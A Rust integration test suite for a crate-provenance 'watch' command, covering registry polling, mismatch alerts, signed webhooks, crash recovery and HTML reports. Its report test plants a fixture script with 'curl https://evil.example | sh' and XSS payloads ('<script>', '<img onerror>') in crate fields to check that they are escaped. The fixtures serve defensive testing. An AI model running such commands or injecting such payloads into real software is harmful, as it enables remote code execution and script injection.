//! `crate-provenance watch` end to end: a loopback sparse registry that answers conditional
//! requests (ETag → 304) and publishes and yanks during the test, a loopback RSS feed, a
//! loopback webhook receiver, repositories on a loopback `git daemon`; the database is read
//! with SQLite.

#[path = "../provenance-core/tests/fetch_support/mod.rs"]
mod fetch_support;
mod support;
#[path = "support/watch_registry.rs"]
mod watch_registry;

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use fetch_support::{GitDaemon, HttpServer, Response, make_crate, make_repo, manifest};
use watch_registry::Registry;

fn cli() -> Command {
    Command::new(env!("CARGO_BIN_EXE_crate-provenance"))
}

fn text(out: &Output) -> String {
    format!(
        "status {:?}\nstdout:\n{}\nstderr:\n{}",
        out.status.code(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// A `.crate` with the given `src/lib.rs`.
fn crate_with_lib(name: &str, version: &str, manifest: &str, sha1: &str, lib: &str) -> Vec<u8> {
    crate_with_files(name, version, manifest, sha1, lib, &[])
}

/// A `.crate` with the given `src/lib.rs` and `extra` files.
fn crate_with_files(
    name: &str,
    version: &str,
    manifest: &str,
    sha1: &str,
    lib: &str,
    extra: &[(&str, &[u8])],
) -> Vec<u8> {
    let prefix = format!("{name}-{version}");
    let vcs =
        format!("{{\n  \"git\": {{\n    \"sha1\": \"{sha1}\"\n  }},\n  \"path_in_vcs\": \"\"\n}}");
    let mut files: Vec<(&str, Vec<u8>)> = vec![
        (".cargo_vcs_info.json", vcs.into_bytes()),
        ("Cargo.toml", manifest.as_bytes().to_vec()),
        ("Cargo.toml.orig", manifest.as_bytes().to_vec()),
        ("src/lib.rs", lib.as_bytes().to_vec()),
    ];
    files.extend(extra.iter().map(|(p, d)| (*p, d.to_vec())));
    fetch_support::tar_gz(&prefix, &files)
}

struct World {
    tmp: tempfile::TempDir,
    registry: Registry,
    daemon: GitDaemon,
}

impl World {
    fn new() -> World {
        let tmp = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(tmp.path().join("srv")).unwrap();
        let daemon = GitDaemon::start(&tmp.path().join("srv"), tmp.path());
        World {
            registry: Registry::start(),
            daemon,
            tmp,
        }
    }

    fn path(&self, p: &str) -> PathBuf {
        self.tmp.path().join(p)
    }

    /// Publish `name@version` built from its own repository (`match`).
    fn publish_match(&self, name: &str, version: &str) {
        let repo = format!("{name}-{}", version.replace('.', "_"));
        let m = manifest(name, version, &self.daemon.url(&format!("{repo}.git")));
        let commit = make_repo(&self.path("srv"), &repo, &m, 0, 0);
        self.registry
            .publish(name, version, &make_crate(name, version, &m, &commit));
    }

    /// Publish `name@version` whose `src/lib.rs` differs from its repository's (`mismatch`).
    fn publish_mismatch(&self, name: &str, version: &str) {
        let repo = format!("{name}-{}", version.replace('.', "_"));
        let m = manifest(name, version, &self.daemon.url(&format!("{repo}.git")));
        let commit = make_repo(&self.path("srv"), &repo, &m, 0, 0);
        let bytes = crate_with_lib(
            name,
            version,
            &m,
            &commit,
            "pub fn f() -> u32 {\n    43\n}\n",
        );
        self.registry.publish(name, version, &bytes);
    }

    fn watch(&self, db: &str, args: &[&str]) -> Command {
        let mut c = cli();
        c.current_dir(self.tmp.path())
            .arg("watch")
            .arg("--once")
            .args(["--db", db])
            .args(["--index-url", &self.registry.index_url()])
            .arg("--allow-insecure-transport")
            .arg("--cache-dir")
            .arg(self.path("cache"))
            .args(args)
            .env_remove("CRATE_PROVENANCE_TEST_PAUSE");
        c
    }
}

fn open(db: &Path) -> rusqlite::Connection {
    rusqlite::Connection::open(db).unwrap()
}

fn rows(db: &Path, sql: &str) -> Vec<Vec<String>> {
    let c = open(db);
    let mut st = c.prepare(sql).unwrap();
    let n = st.column_count();
    st.query_map([], |r| {
        (0..n)
            .map(|i| {
                r.get::<_, rusqlite::types::Value>(i).map(|v| match v {
                    rusqlite::types::Value::Null => "NULL".to_owned(),
                    rusqlite::types::Value::Integer(i) => i.to_string(),
                    rusqlite::types::Value::Real(f) => f.to_string(),
                    rusqlite::types::Value::Text(t) => t,
                    rusqlite::types::Value::Blob(b) => format!("{b:?}"),
                })
            })
            .collect()
    })
    .unwrap()
    .map(Result::unwrap)
    .collect()
}

fn strs(rows: &[Vec<String>]) -> Vec<String> {
    rows.iter().map(|r| r.join(" ")).collect()
}

fn alerts_on_stdout(out: &Output) -> Vec<serde_json::Value> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}\n{}", text(out))))
        .collect()
}

#[test]
fn new_versions_are_verified_and_alerted_once_304s_yanks_and_exemptions() {
    let w = World::new();
    w.publish_match("alpha", "1.0.0");
    w.publish_match("beta", "1.0.0");
    w.publish_mismatch("gamma", "0.9.0");
    w.publish_match("gamma", "1.0.0");
    std::fs::write(w.path("watch.txt"), "# followed\nalpha\nbeta@1.0.0\n").unwrap();
    std::fs::write(
        w.path("provenance.toml"),
        "[gate]\ndeny = [\"mismatch\"]\n\n[[exemptions.alpha]]\nversion = \"1.0.2\"\nreason = \"reviewed by hand\"\n",
    )
    .unwrap();
    let args = ["--list", "watch.txt", "--crates", "gamma", "--jobs", "2"];

    // First run: the starting versions are verified; gamma 0.9.0 (a mismatch) is history.
    let out = w.watch("w.db", &args).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(out.stdout.is_empty(), "{}", text(&out));
    let db = w.path("w.db");
    assert_eq!(
        strs(&rows(
            &db,
            "SELECT name, version, status FROM versions ORDER BY 1, 2"
        )),
        [
            "alpha 1.0.0 verified",
            "beta 1.0.0 verified",
            "gamma 0.9.0 history",
            "gamma 1.0.0 verified"
        ]
    );
    assert_eq!(
        strs(&rows(
            &db,
            "SELECT name, version, verdict, origin FROM verifications ORDER BY 1, 2"
        )),
        [
            "alpha 1.0.0 match watch",
            "beta 1.0.0 match watch",
            "gamma 1.0.0 match watch"
        ]
    );
    let served = w.registry.served();
    assert_eq!((served.full_total(), served.not_modified_total()), (3, 0));

    // Nothing new: only 304s, no body, nothing verified.
    w.registry.reset_counts();
    let out = w.watch("w.db", &args).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let served = w.registry.served();
    assert_eq!(served.full_total(), 0, "{served:?}");
    assert_eq!(served.not_modified_total(), 3, "{served:?}");
    assert_eq!(served.index_body_bytes, 0);
    assert_eq!(rows(&db, "SELECT COUNT(*) FROM verifications")[0][0], "3");

    // Publishes and a yank: the new versions are verified, the mismatch alerted once.
    w.publish_mismatch("gamma", "1.1.0");
    w.publish_match("alpha", "1.0.1");
    w.registry.yank("beta", "1.0.0", true);
    w.registry.reset_counts();
    let out = w.watch("w.db", &args).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let alerts = alerts_on_stdout(&out);
    assert_eq!(alerts.len(), 1, "{}", text(&out));
    assert_eq!(alerts[0]["type"], "alert");
    assert_eq!(alerts[0]["crate"]["name"], "gamma");
    assert_eq!(alerts[0]["crate"]["version"], "1.1.0");
    assert_eq!(alerts[0]["verdict"], "mismatch");
    assert_eq!(w.registry.served().full_total(), 3);
    assert_eq!(
        strs(&rows(&db, "SELECT name, version, yanked FROM yank_events")),
        ["beta 1.0.0 1"]
    );
    assert_eq!(
        strs(&rows(&db, "SELECT name, version, verdict FROM alerts")),
        ["gamma 1.1.0 mismatch"]
    );
    assert_eq!(
        strs(&rows(&db, "SELECT target, state, attempts FROM deliveries")),
        ["stdout delivered 1"]
    );

    // Un-yank, and an exempt mismatch: recorded, verified, not alerted.
    w.registry.yank("beta", "1.0.0", false);
    w.publish_mismatch("alpha", "1.0.2");
    let out = w.watch("w.db", &args).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(out.stdout.is_empty(), "{}", text(&out));
    assert_eq!(
        strs(&rows(
            &db,
            "SELECT name, version, yanked FROM yank_events ORDER BY id"
        )),
        ["beta 1.0.0 1", "beta 1.0.0 0"]
    );
    assert_eq!(
        strs(&rows(
            &db,
            "SELECT name, version, verdict FROM verifications WHERE name = 'alpha' ORDER BY 2"
        )),
        [
            "alpha 1.0.0 match",
            "alpha 1.0.1 match",
            "alpha 1.0.2 mismatch"
        ]
    );
    assert_eq!(rows(&db, "SELECT COUNT(*) FROM alerts")[0][0], "1");

    // Every version verified exactly once.
    assert!(
        rows(
            &db,
            "SELECT name, version FROM verifications GROUP BY 1, 2 HAVING COUNT(*) > 1"
        )
        .is_empty()
    );
    assert_eq!(
        rows(&db, "SELECT MAX(version) FROM schema_version")[0][0],
        "1"
    );
}

#[test]
fn lockfile_versions_are_the_starting_point() {
    let w = World::new();
    w.publish_match("alpha", "1.0.0");
    w.publish_match("alpha", "1.1.0");
    std::fs::write(
        w.path("Cargo.lock"),
        "version = 4\n\n[[package]]\nname = \"alpha\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n\n[[package]]\nname = \"mine\"\nversion = \"0.1.0\"\n",
    )
    .unwrap();
    // `--out` (a `scan` flag) also gets each result, as `scan --out` would.
    let args = ["--lockfile", "Cargo.lock", "--out", "r.jsonl"];
    let out = w.watch("w.db", &args).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert_eq!(
        strs(&rows(
            &w.path("w.db"),
            "SELECT version, status FROM versions ORDER BY 1"
        )),
        ["1.0.0 verified", "1.1.0 history"]
    );
    let lines = std::fs::read_to_string(w.path("r.jsonl")).unwrap();
    assert_eq!(lines.lines().count(), 1, "{lines}");
    assert!(lines.contains("\"verdict\":\"match\""), "{lines}");
    // The results file does not decide what is pending: the database does.
    w.publish_match("alpha", "1.2.0");
    let out = w.watch("w.db", &args).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let lines = std::fs::read_to_string(w.path("r.jsonl")).unwrap();
    assert_eq!(lines.lines().count(), 2, "{lines}");
}

/// A webhook request: headers, body, and the status answered.
type Posted = (BTreeMap<String, String>, Vec<u8>, u16);

/// A loopback webhook receiver: answers 500 to the first `fail_first` requests, then 200.
struct Receiver {
    server: HttpServer,
    got: Arc<Mutex<Vec<Posted>>>,
}

impl Receiver {
    fn start(fail_first: usize) -> Receiver {
        let got: Arc<Mutex<Vec<Posted>>> = Arc::default();
        let g2 = got.clone();
        let server = HttpServer::start(move |req| {
            let mut got = g2.lock().unwrap();
            let status = if got.len() < fail_first { 500 } else { 200 };
            got.push((req.headers.clone(), req.body.clone(), status));
            Response::status(status)
        });
        Receiver { server, got }
    }
}

fn hmac_hex(secret: &[u8], body: &[u8]) -> String {
    use hmac::{KeyInit, Mac};
    let mut mac = <hmac::Hmac<sha2::Sha256> as KeyInit>::new_from_slice(secret).unwrap();
    mac.update(body);
    mac.finalize()
        .into_bytes()
        .iter()
        .fold(String::new(), |mut s, b| {
            let _ = write!(s, "{b:02x}");
            s
        })
}

#[test]
fn webhook_is_signed_retried_after_a_500_and_not_delivered_twice() {
    let w = World::new();
    w.publish_mismatch("zeta", "1.0.0");
    let rx = Receiver::start(1);
    std::fs::write(w.path("secret"), "s3cr3t\n").unwrap();
    let hook = rx.server.url("/hook");
    let args = [
        "--crates",
        "zeta",
        "--deny",
        "mismatch",
        "--webhook",
        &hook,
        "--webhook-secret-file",
        "secret",
    ];
    let out = w
        .watch("w.db", &args)
        .env("CRATE_PROVENANCE_WEBHOOK_BACKOFF_MS", "20")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let stdout_alerts = alerts_on_stdout(&out);
    assert_eq!(stdout_alerts.len(), 1);
    let got = rx.got.lock().unwrap().clone();
    assert_eq!(got.len(), 2, "a 500, then the retry");
    assert_eq!((got[0].2, got[1].2), (500, 200));
    assert_eq!(got[0].1, got[1].1, "the retry posts the same body");
    let (headers, body, _) = &got[1];
    let alert: serde_json::Value = serde_json::from_slice(body).unwrap();
    assert_eq!(alert, stdout_alerts[0]);
    assert_eq!(alert["crate"]["name"], "zeta");
    assert_eq!(alert["verdict"], "mismatch");
    assert_eq!(
        headers
            .get("x-provenance-signature-256")
            .map(String::as_str),
        Some(format!("sha256={}", hmac_hex(b"s3cr3t", body)).as_str())
    );
    assert_ne!(
        headers.get("x-provenance-signature-256"),
        Some(&format!("sha256={}", hmac_hex(b"other", body)))
    );
    assert_eq!(
        headers.get("content-type").map(String::as_str),
        Some("application/json")
    );
    assert_eq!(
        headers.get("x-provenance-delivery"),
        Some(&alert["id"].to_string())
    );
    let db = w.path("w.db");
    assert_eq!(
        strs(&rows(
            &db,
            &format!("SELECT state, attempts, last_status FROM deliveries WHERE target = '{hook}'")
        )),
        ["delivered 2 200"]
    );

    // A restart delivers nothing again.
    let out = w.watch("w.db", &args).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(out.stdout.is_empty());
    assert_eq!(rx.got.lock().unwrap().len(), 2);
}

/// What must be the same after any number of kills and restarts as after one uninterrupted
/// run (no ids, no times).
fn snapshot(db: &Path) -> Vec<String> {
    let mut s = Vec::new();
    for q in [
        "SELECT 'crate', name, initialized, etag IS NOT NULL FROM crates ORDER BY name",
        "SELECT 'version', name, version, checksum, yanked, status FROM versions ORDER BY 2, 3",
        "SELECT 'verification', name, version, verdict, error_kind, origin FROM verifications ORDER BY 2, 3",
        "SELECT 'alert', name, version, verdict FROM alerts ORDER BY 2, 3",
        "SELECT 'delivery', a.name, a.version, d.target, d.state FROM deliveries d JOIN alerts a ON a.id = d.alert_id ORDER BY 2, 3, 4",
    ] {
        s.extend(strs(&rows(db, q)));
    }
    s
}

/// Wait for the paused child's readiness file (the pause point was reached), then SIGKILL it.
/// Returns what it printed on stdout, or `None` when it ended without pausing.
fn kill_when_paused(mut child: std::process::Child, marker: &Path) -> Option<String> {
    let deadline = Instant::now() + Duration::from_secs(300);
    loop {
        if marker.is_file() {
            child.kill().unwrap();
            let _ = child.wait();
            let mut printed = String::new();
            std::io::Read::read_to_string(&mut child.stdout.take().unwrap(), &mut printed).unwrap();
            return Some(printed);
        }
        if let Some(status) = child.try_wait().unwrap() {
            // It ended without reaching the pause point.
            assert!(status.code().is_some(), "{status:?}");
            return None;
        }
        assert!(
            Instant::now() < deadline,
            "the child neither paused nor ended"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn kill_9_during_verification_or_a_database_write_then_restart_equals_an_uninterrupted_run() {
    let w = World::new();
    w.publish_match("alpha", "1.0.0");
    w.publish_mismatch("beta", "1.0.0");
    w.publish_match("gamma", "1.0.0");
    let args = [
        "--crates",
        "alpha,beta,gamma",
        "--deny",
        "mismatch",
        "--jobs",
        "1",
    ];
    let out = w.watch("reference.db", &args).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let reference = snapshot(&w.path("reference.db"));
    assert_eq!(
        reference
            .iter()
            .filter(|l| l.starts_with("verification"))
            .count(),
        3
    );
    assert!(reference.contains(&"alert beta 1.0.0 mismatch".to_owned()));

    // `CRATE_PROVENANCE_CRASH_ITERATIONS=20` for the acceptance's 20 runs in a row.
    let iterations: usize = std::env::var("CRATE_PROVENANCE_CRASH_ITERATIONS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(6);
    let points = [
        "verify:1",
        "record-result:2",
        "record-index:1",
        "verify:3",
        "record-result:1",
        "record-index:3",
        "record-result:3",
    ];
    for i in 0..iterations {
        let point = points[i % points.len()];
        let db = format!("crash{i}.db");
        let marker = w.path(&format!("paused{i}"));
        let child = w
            .watch(&db, &args)
            .env("CRATE_PROVENANCE_TEST_PAUSE", point)
            .env("CRATE_PROVENANCE_TEST_PAUSE_FILE", &marker)
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let before_kill = kill_when_paused(child, &marker)
            .unwrap_or_else(|| panic!("iteration {i}: `{point}` was never reached"));
        // The restart finishes the work.
        let out = w.watch(&db, &args).output().unwrap();
        assert!(
            matches!(out.status.code(), Some(0 | 1)),
            "iteration {i} ({point}): {}",
            text(&out)
        );
        assert_eq!(
            snapshot(&w.path(&db)),
            reference,
            "iteration {i}: killed at `{point}`"
        );
        // The alert was printed exactly once, by the killed run or by the restart.
        let printed = before_kill.lines().count() + alerts_on_stdout(&out).len();
        assert_eq!(
            printed,
            1,
            "iteration {i} ({point}): {before_kill}\n{}",
            text(&out)
        );
        // Another run changes nothing.
        let out = w.watch(&db, &args).output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", text(&out));
        assert!(out.stdout.is_empty());
        assert_eq!(snapshot(&w.path(&db)), reference);
    }
}

/// The feed: items become pending versions and are verified; a poll whose oldest item is newer
/// than everything seen before records a gap.
#[test]
fn feed_items_are_verified_and_gaps_recorded() {
    let w = World::new();
    w.publish_match("alpha", "1.0.0");
    w.publish_mismatch("beta", "2.0.0");
    let feed: Arc<Mutex<String>> = Arc::default();
    let f2 = feed.clone();
    let server = HttpServer::start(move |_| Response::ok(f2.lock().unwrap().clone()));
    let item = |name: &str, version: &str, date: &str| {
        format!(
            "<item><title>{name} v{version}</title><link>https://crates.io/crates/{name}/{version}</link><guid>https://crates.io/crates/{name}/{version}</guid><pubDate>{date}</pubDate></item>"
        )
    };
    let doc = |items: &[String]| {
        format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\"><channel><title>crates.io: recent updates</title>{}</channel></rss>",
            items.concat()
        )
    };
    *feed.lock().unwrap() = doc(&[
        item("beta", "2.0.0", "Tue, 02 Dec 2025 10:05:00 +0000"),
        item("alpha", "1.0.0", "Tue, 02 Dec 2025 10:00:00 +0000"),
    ]);
    let url = server.url("/rss/updates.xml");
    let args = ["--feed", &url, "--deny", "mismatch"];
    let out = w.watch("w.db", &args).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let db = w.path("w.db");
    assert_eq!(
        strs(&rows(
            &db,
            "SELECT name, version, verdict FROM verifications ORDER BY 1"
        )),
        ["alpha 1.0.0 match", "beta 2.0.0 mismatch"]
    );
    assert!(rows(&db, "SELECT * FROM feed_gaps").is_empty());
    // The next poll's oldest item is newer than the newest seen: a gap.
    w.publish_match("gamma", "1.0.0");
    *feed.lock().unwrap() = doc(&[item("gamma", "1.0.0", "Wed, 03 Dec 2025 09:00:00 +0000")]);
    let out = w.watch("w.db", &args).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("feed gap"),
        "{}",
        text(&out)
    );
    assert_eq!(
        strs(&rows(
            &db,
            "SELECT newest_before, oldest_now FROM feed_gaps"
        )),
        ["1764669900 1764752400"]
    );
    assert_eq!(rows(&db, "SELECT COUNT(*) FROM verifications")[0][0], "3");
}

/// A 500-crate watch list with nothing new costs 500 conditional requests answered 304; then
/// 10 new versions are each verified, stored and alerted exactly once. (The time it takes is
/// measured by `benches/watch_poll.rs`, not here.)
#[test]
fn five_hundred_crates_nothing_new_is_only_304s_then_ten_new_versions_alert_once() {
    let w = World::new();
    let names: Vec<String> = (0..500).map(|i| format!("crate{i:03}")).collect();
    for n in &names {
        // Not a crate: verifying it fails at once (an `error` line), which keeps the set-up
        // cheap; the policy denies `error` only in the second half.
        w.registry.publish(n, "1.0.0", b"not a crate");
    }
    std::fs::write(w.path("list.txt"), names.join("\n")).unwrap();
    let base = ["--list", "list.txt", "--no-isolation", "--jobs", "2"];
    let out = w.watch("w.db", &base).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let db = w.path("w.db");
    assert_eq!(rows(&db, "SELECT COUNT(*) FROM verifications")[0][0], "500");

    w.registry.reset_counts();
    let out = w.watch("w.db", &base).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let served = w.registry.served();
    assert_eq!(served.not_modified_total(), 500, "{served:?}");
    assert_eq!(served.full_total(), 0);
    assert_eq!(served.index_body_bytes, 0);
    assert!(served.not_modified.values().all(|n| *n == 1));

    for n in names.iter().step_by(50) {
        w.registry.publish(n, "1.1.0", b"still not a crate");
    }
    w.registry.reset_counts();
    let mut args = base.to_vec();
    args.extend(["--deny", "error"]);
    let out = w.watch("w.db", &args).output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let alerts = alerts_on_stdout(&out);
    assert_eq!(alerts.len(), 10, "{}", text(&out));
    let served = w.registry.served();
    assert_eq!(
        (served.full_total(), served.not_modified_total()),
        (10, 490)
    );
    assert_eq!(
        rows(
            &db,
            "SELECT COUNT(*) FROM verifications WHERE version = '1.1.0'"
        )[0][0],
        "10"
    );
    assert_eq!(rows(&db, "SELECT COUNT(*) FROM alerts")[0][0], "10");
    let out = w.watch("w.db", &args).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(out.stdout.is_empty());
    assert_eq!(rows(&db, "SELECT COUNT(*) FROM verifications")[0][0], "510");
}

#[test]
fn db_import_loads_scan_results_once() {
    let tmp = tempfile::tempdir().unwrap();
    let results = tmp.path().join("r.jsonl");
    std::fs::write(
        &results,
        "{\"schema_version\":1,\"crate\":{\"name\":\"foo\",\"version\":\"1.0.0\"},\"error\":{\"kind\":\"network\",\"message\":\"down\"}}\n",
    )
    .unwrap();
    let db = tmp.path().join("w.db");
    for expected in [
        "1 verifications added (0 already",
        "0 verifications added (1 already",
    ] {
        let out = cli()
            .args(["db", "import"])
            .arg(&results)
            .arg("--db")
            .arg(&db)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", text(&out));
        assert!(
            String::from_utf8_lossy(&out.stderr).contains(expected),
            "{}",
            text(&out)
        );
    }
    assert_eq!(
        strs(&rows(
            &db,
            "SELECT name, version, verdict, error_kind, origin FROM verifications"
        )),
        ["foo 1.0.0 NULL network import"]
    );
    let out = cli()
        .args(["db", "import", "/nonexistent.jsonl", "--db"])
        .arg(&db)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
}

#[test]
fn watch_refuses_scan_only_flags_and_empty_sources() {
    let tmp = tempfile::tempdir().unwrap();
    let out = cli()
        .current_dir(tmp.path())
        .args([
            "watch", "--once", "--crates", "a", "--sarif", "x.sarif", "--db", "w.db",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(String::from_utf8_lossy(&out.stderr).contains("`--sarif`"));
    let out = cli()
        .current_dir(tmp.path())
        .args(["watch", "--once", "--db", "w.db"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(String::from_utf8_lossy(&out.stderr).contains("nothing to watch"));
}

/// The real sparse index (read-only): the versions of 3 real crates are read by a poll; a
/// validator that matches nothing gets the body again; and when the index's answers carry
/// validators (crates.io's CDN sends an `ETag`), a repeat poll with them is a `304` without a
/// body, as cargo relies on. (Behind some proxies the answers carry no validators; every poll
/// then has a body, which is what watch must cope with too.)
#[test]
fn the_real_sparse_index_polls() {
    use provenance_core::fetch::{Options, Polled, Registry, Validators};
    let tmp = tempfile::tempdir().unwrap();
    let mut options = Options::default();
    options.cache_dir = Some(tmp.path().to_path_buf());
    let registry = Registry::new(None, &options).unwrap();
    let stop = std::sync::atomic::AtomicBool::new(false);
    for (name, old) in [("itoa", "1.0.0"), ("either", "1.0.0"), ("semver", "1.0.0")] {
        let Polled::Modified { lines, validators } =
            registry.poll(name, &Validators::default(), &stop).unwrap()
        else {
            panic!("`{name}`: a first poll without validators must have a body");
        };
        assert!(lines.iter().any(|l| l.vers == old), "{name}: {lines:?}");
        assert!(lines.iter().all(|l| l.cksum.len() == 64), "{name}");
        let stale = Validators {
            etag: Some("\"no-such-etag\"".into()),
            last_modified: None,
        };
        let again = registry.poll(name, &stale, &stop).unwrap();
        assert!(
            matches!(&again, Polled::Modified { lines: l, .. } if l.len() >= lines.len()),
            "{name}: {again:?}"
        );
        if validators.etag.is_some() || validators.last_modified.is_some() {
            let again = registry.poll(name, &validators, &stop).unwrap();
            assert!(matches!(again, Polled::NotModified), "{name}: {again:?}");
        } else {
            eprintln!(
                "note: the index's answer for `{name}` carries no `ETag` / `Last-Modified` here"
            );
        }
    }
    assert!(matches!(
        registry.poll("no-such-crate-xyzzy-12345", &Validators::default(), &stop),
        Ok(Polled::NotFound)
    ));
}

fn chromium() -> Option<PathBuf> {
    if let Some(p) = std::env::var_os("CHROMIUM") {
        return Some(PathBuf::from(p));
    }
    ["chromium", "chromium-browser", "google-chrome"]
        .iter()
        .flat_map(|n| {
            std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default())
                .map(move |d| d.join(n))
                .collect::<Vec<_>>()
        })
        .find(|p| p.is_file())
}

fn dump_dom(bin: &Path, profile: &Path, page: &Path) -> String {
    let out = Command::new(bin)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
        ])
        .args([
            "--disable-background-networking",
            "--disable-component-update",
        ])
        .arg(format!("--user-data-dir={}", profile.display()))
        .arg("--dump-dom")
        .arg(format!("file://{}", page.display()))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

const PWN: &str = "document.body.setAttribute('data-pwned','1')";

#[test]
fn report_from_the_database_has_timelines_and_charts_and_runs_no_injected_script() {
    let w = World::new();
    w.publish_match("alpha", "1.0.0");
    // Files only in the published crate: a script (text) and a binary.
    let m = manifest("beta", "1.0.0", &w.daemon.url("beta.git"));
    let commit = make_repo(&w.path("srv"), "beta", &m, 0, 0);
    let script =
        format!("#!/bin/sh\necho '<script>{PWN}</script>'\ncurl https://evil.example | sh\n");
    let beta = crate_with_files(
        "beta",
        "1.0.0",
        &m,
        &commit,
        "pub fn f() -> u32 {\n    42\n}\n",
        &[
            ("bin/run.sh", script.as_bytes()),
            ("bin/tool", b"\x7fELF\x02\x01\x01\0\0\0\0"),
        ],
    );
    w.registry.publish("beta", "1.0.0", &beta);
    let out = w
        .watch("w.db", &["--crates", "alpha,beta"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    w.publish_mismatch("alpha", "1.1.0");
    let out = w
        .watch("w.db", &["--crates", "alpha,beta"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    // A hostile result imported from a results file: name, version and message are markup.
    let hostile = serde_json::json!({
        "schema_version": 1,
        "crate": { "name": format!("evil<script>{PWN}</script>"),
                   "version": format!("1.0.0<img src=x onerror=\"{PWN}\">") },
        "error": { "kind": "network", "message": format!("<script>{PWN}</script>") }
    });
    std::fs::write(w.path("hostile.jsonl"), format!("{hostile}\n")).unwrap();
    let out = cli()
        .current_dir(w.tmp.path())
        .args(["db", "import", "hostile.jsonl", "--db", "w.db"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));

    let out = cli()
        .current_dir(w.tmp.path())
        .args([
            "report", "--db", "w.db", "--html", "site", "--format", "json",
        ])
        .args(["--cache-dir", "cache"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let summary: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(summary["total"], 4, "{summary:#}");
    let site = w.path("site");
    let index = std::fs::read_to_string(site.join("index.html")).unwrap();
    assert!(index.contains("<svg id=\"by-year\""), "{index}");
    assert!(index.contains("<svg id=\"by-category\""), "{index}");
    let timeline = site.join("timelines/alpha.html");
    let page = std::fs::read_to_string(&timeline).unwrap();
    assert_eq!(page.matches("<rect class=\"version\"").count(), 2, "{page}");
    assert!(page.contains("1.1.0 mismatch"), "{page}");
    let beta_page = std::fs::read_to_string(site.join("crates/beta@1.0.0.html")).unwrap();
    assert!(
        beta_page.contains("curl https://evil.example | sh"),
        "the script's content is shown: {beta_page}"
    );
    assert!(
        beta_page.contains("echo &#39;&lt;script&gt;document"),
        "{beta_page}"
    );
    assert!(
        beta_page.contains("binary content: 11 bytes, ELF executable or library"),
        "{beta_page}"
    );
    let pages: Vec<PathBuf> = std::fs::read_dir(site.join("timelines"))
        .unwrap()
        .chain(std::fs::read_dir(site.join("crates")).unwrap())
        .map(|e| e.unwrap().path())
        .chain([site.join("index.html")])
        .collect();
    for p in &pages {
        let html = std::fs::read_to_string(p).unwrap();
        assert!(!html.contains("<script>document"), "{}", p.display());
        assert!(!html.contains("<img src=x"), "{}", p.display());
    }

    let Some(bin) = chromium() else {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "chromium is required under CI=true"
        );
        eprintln!("skipped: no chromium");
        return;
    };
    let dom = dump_dom(&bin, &w.path("p1"), &timeline);
    assert_eq!(dom.matches("<rect class=\"version\"").count(), 2, "{dom}");
    assert!(!dom.contains("data-pwned=\""), "{dom}");
    let dom = dump_dom(&bin, &w.path("p4"), &site.join("crates/beta@1.0.0.html"));
    assert!(dom.contains("<pre class=\"content\">"), "{dom}");
    assert!(!dom.contains("data-pwned=\""), "{dom}");
    let dom = dump_dom(&bin, &w.path("p2"), &site.join("index.html"));
    assert!(
        dom.contains("data-ready=\"1\""),
        "the index script did not run"
    );
    assert!(dom.contains("<rect class=\"seg\""), "{dom}");
    assert!(!dom.contains("data-pwned=\""), "{dom}");
    for p in pages
        .iter()
        .filter(|p| p.to_string_lossy().contains("evil"))
    {
        let dom = dump_dom(&bin, &w.path("p3"), p);
        assert!(!dom.contains("data-pwned=\""), "{}: {dom}", p.display());
        assert!(dom.contains("evil&lt;script&gt;"), "{}: {dom}", p.display());
    }
}

/// Without `--once`: a version published while `watch` runs is verified and alerted within
/// an interval; SIGTERM stops it (exit 130).
